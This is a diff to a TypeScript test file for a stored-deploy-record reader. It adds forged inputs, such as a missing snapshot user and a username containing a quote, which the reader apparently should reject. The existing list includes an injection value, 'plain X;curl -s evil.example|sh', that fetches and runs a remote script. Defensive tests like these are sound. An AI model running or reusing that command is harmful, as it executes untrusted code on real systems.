@@ -44,6 +44,8 @@ const forged: readonly (readonly [string, object])[] = [
   ['a snapshot with a wildcard', { snapshot: { id: '*', credentials: secret } }],
   ['credentials that are a password', { snapshot: { id: 'shop-1', credentials: 'hunter2' } }],
   ['credentials with a wildcard', { snapshot: { id: 'shop-1', credentials: `${secret}*` } }],
+  ['a snapshot without a user', { snapshot: { id: 'shop-1' } }],
+  ['a user of a snapshot with a quote', { snapshot: { id: 'shop-1', username: "shop'" } }],
   ['a promise without an end', { keepUntil: '+275760-09-13T00:00:00.000Z' }],
   ['a promise in words', { keepUntil: '1 January 2099' }],
   ['a dropped property that is a command', { dropped: { 'shop-x--web': ['plain X;curl -s evil.example|sh'] } }],
@@ -81,6 +83,9 @@ test('what our own deploys write is read', async () => {
     platformNames: { web: 'nodejs-22' },
     snapshot: { id: 'rds:shop-2026-11-21-03-10', credentials: secret, newestOf: 'shop' },
   };
-  odd.say(stored(JSON.stringify(whole)));
-  expect((await new AwsRecords(aws.clients).read(location))?.record).toEqual(whole);
+  const named = { ...whole, snapshot: { id: 'shop-1', username: 'Owner_1' } };
+  for (const one of [whole, named]) {
+    odd.say(stored(JSON.stringify(one)));
+    expect((await new AwsRecords(aws.clients).read(location))?.record).toEqual(one);
+  }
 });
